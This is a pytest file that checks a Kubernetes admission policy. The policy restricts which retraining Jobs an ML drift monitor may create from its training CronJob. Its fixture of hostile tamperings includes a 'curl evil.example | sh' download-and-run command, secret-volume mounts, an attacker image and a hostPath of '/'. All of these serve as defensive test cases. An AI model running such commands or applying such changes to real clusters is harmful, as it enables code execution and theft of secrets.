"""The admission policy that narrows the monitor's `create jobs`, evaluated with a real CEL interpreter.

The policy's parameter is the model's training CronJob (`paramKind` / `paramRef`); the Job under test is the one
`pipelines.adapters.kubernetes_job` builds from that captured CronJob (what `kubectl create job --from=cronjob/...`
builds too), so the policy is checked against exactly what the monitor sends, and against tampered copies of it.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import celpy
import pytest
from k8s_helpers import named, of_kind

from infra.stackfile import load_stack
from infra.targets.kubernetes import layout
from pipelines.adapters.kubernetes_job import job_from_cronjob

STACKS = ["k8s-dev", "k8s-prod"]
CRONJOB_UID = "0f0e0d0c-0000-4000-8000-000000000001"


def failed_checks(policy: dict[str, Any], job: dict[str, Any], username: str,
                  params: dict[str, Any]) -> list[str] | None:
    """The messages of the checks `job` fails when `username` creates it with `params` bound as the policy's
    parameter; None when the policy does not apply."""
    env = celpy.Environment()
    activation = {"object": celpy.json_to_cel(job), "params": celpy.json_to_cel(params),
                  "request": celpy.json_to_cel({"userInfo": {"username": username}})}
    spec = policy["spec"]
    if not all(env.program(env.compile(c["expression"])).evaluate(activation) for c in spec["matchConditions"]):
        return None
    failed = []
    for validation in spec["validations"]:
        result = env.program(env.compile(validation["expression"])).evaluate(activation)
        assert isinstance(result, celpy.celtypes.BoolType), (validation["expression"], result)  # no CEL error
        if not result:
            failed.append(validation["message"])
    return failed


def retraining_models(project, stack: str) -> list[str]:
    spec = load_stack(stack, project_dir=project).spec
    return [m.name for m in spec.models if m.monitoring.retrain_on_drift]


def pod(job: dict[str, Any]) -> dict[str, Any]:
    return job["spec"]["template"]["spec"]


def tamper(job: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    changed = copy.deepcopy(job)
    change(changed)
    return changed


#: Changes a compromised monitor could make to the Job it sends, each of which the policy must refuse.
TAMPERINGS: dict[str, Callable[[dict[str, Any]], None]] = {
    "command": lambda j: pod(j)["containers"][0].update(command=["sh", "-c", "curl evil.example | sh"]),
    "args": lambda j: pod(j)["containers"][0].update(args=["--exfiltrate"]),
    "env": lambda j: pod(j)["containers"][0]["env"].append({"name": "PYTHONSTARTUP", "value": "/tmp/x.py"}),
    "another-secret-volume": lambda j: (
        pod(j)["volumes"].append({"name": "stolen", "secret": {"secretName": "mlflow-backend-store"}}),
        pod(j)["containers"][0]["volumeMounts"].append({"name": "stolen", "mountPath": "/stolen"})),
    "env-from-secret": lambda j: pod(j)["containers"][0].update(
        envFrom=[{"secretRef": {"name": "mlflow-backend-store"}}]),
    "image": lambda j: pod(j)["containers"][0].update(image="attacker/tools:latest"),
    "init-image": lambda j: pod(j)["initContainers"][0].update(image="attacker/tools:latest"),
    "service-account": lambda j: pod(j).update(serviceAccountName="mlflow"),
    "token": lambda j: pod(j).update(automountServiceAccountToken=True),
    "security-context": lambda j: pod(j)["containers"][0]["securityContext"].update(readOnlyRootFilesystem=False),
    "host-path": lambda j: pod(j)["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
    "node": lambda j: pod(j).update(nodeName="control-plane"),
    "pod-labels": lambda j: j["spec"]["template"]["metadata"]["labels"].update(
        {"app.kubernetes.io/name": "serving"}),
    "pod-annotations": lambda j: j["spec"]["template"]["metadata"].update(
        annotations={"container.apparmor.security.beta.kubernetes.io/run": "unconfined"}),
    "deadline": lambda j: j["spec"].update(activeDeadlineSeconds=10 ** 7),
    "parallelism": lambda j: j["spec"].update(parallelism=50),
    "no-owner": lambda j: j["metadata"].pop("ownerReferences"),
    "other-owner": lambda j: j["metadata"]["ownerReferences"][0].update(name="other-train"),
    "stale-owner-uid": lambda j: j["metadata"]["ownerReferences"][0].update(uid="another-uid"),
}


@pytest.fixture(params=STACKS)
def retraining(request, captured, project) -> list[tuple[dict[str, Any], dict[str, Any], str, dict[str, Any]]]:
    """Per retraining model: (policy, the CronJob as the API returns it, the monitor's username, its Job)."""
    stack = request.param
    capture = captured(stack)
    namespace = layout.namespace_name(load_stack(stack, project_dir=project).spec)
    models = retraining_models(project, stack)
    assert models and len(of_kind(capture, "ValidatingAdmissionPolicy")) == len(models)
    found = []
    for model in models:
        policy = named(capture, "ValidatingAdmissionPolicy", f"{namespace}-{model}-retrain")
        cronjob = copy.deepcopy(named(capture, "CronJob", layout.train_cronjob(model)))
        cronjob["metadata"]["uid"] = CRONJOB_UID  # set by the API server
        job = job_from_cronjob(cronjob, name=f"{model}-train-retrain-1", reason="drift")
        found.append((policy, cronjob, f"system:serviceaccount:{namespace}:{layout.drift_cronjob(model)}", job))
    return found


def test_the_job_the_monitor_and_kubectl_create_from_the_cronjob_is_admitted(retraining) -> None:
    for policy, cronjob, monitor, job in retraining:
        assert failed_checks(policy, job, monitor, cronjob) == []
        # As the API server sees it: the Job controller's labels added to the pod template.
        labelled = tamper(job, lambda j: j["spec"]["template"]["metadata"]["labels"].update(
            {"batch.kubernetes.io/job-name": "x", "batch.kubernetes.io/controller-uid": "u", "job-name": "x",
             "controller-uid": "u"}))
        assert failed_checks(policy, labelled, monitor, cronjob) == []


@pytest.mark.parametrize("change", sorted(TAMPERINGS))
def test_every_change_to_the_cronjobs_job_is_refused(retraining, change: str) -> None:
    for policy, cronjob, monitor, job in retraining:
        tampered = tamper(job, TAMPERINGS[change])
        assert tampered != job
        assert len(failed_checks(policy, tampered, monitor, cronjob)) == 1, change


def test_the_policy_pins_to_the_live_cronjob_and_applies_only_to_the_monitor(retraining, project) -> None:
    for policy, cronjob, monitor, job in retraining:
        # An updated CronJob (a new wheel) is what Jobs are compared with, not what the policy was declared with.
        updated = tamper(cronjob, lambda c: c["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
                         .update(image="registry.example/runtime@sha256:" + "1" * 64))
        assert len(failed_checks(policy, job, monitor, updated)) == 1
        new_job = job_from_cronjob(updated, name="x-retrain-2", reason="drift")
        assert failed_checks(policy, new_job, monitor, updated) == []
        # Anyone else (a CronJob controller, an operator) is not this policy's business.
        namespace = monitor.split(":")[2]
        hostile = tamper(job, TAMPERINGS["command"])
        assert failed_checks(policy, hostile, f"system:serviceaccount:{namespace}:mlflow", cronjob) is None


@pytest.mark.parametrize("stack", STACKS)
def test_the_policy_takes_the_training_cronjob_as_its_parameter(captured, project, stack: str) -> None:
    capture = captured(stack)
    namespace = layout.namespace_name(load_stack(stack, project_dir=project).spec)
    for model in retraining_models(project, stack):
        policy = named(capture, "ValidatingAdmissionPolicy", f"{namespace}-{model}-retrain")
        assert policy["spec"]["paramKind"] == {"apiVersion": "batch/v1", "kind": "CronJob"}
        assert policy["spec"]["failurePolicy"] == "Fail"
        assert policy["spec"]["matchConstraints"]["namespaceSelector"]["matchLabels"] == {
            "kubernetes.io/metadata.name": namespace}
        binding = named(capture, "ValidatingAdmissionPolicyBinding", policy["metadata"]["name"])
        assert binding["spec"] == {
            "policyName": policy["metadata"]["name"], "validationActions": ["Deny"],
            "paramRef": {"name": layout.train_cronjob(model), "namespace": namespace,
                         "parameterNotFoundAction": "Deny"}}
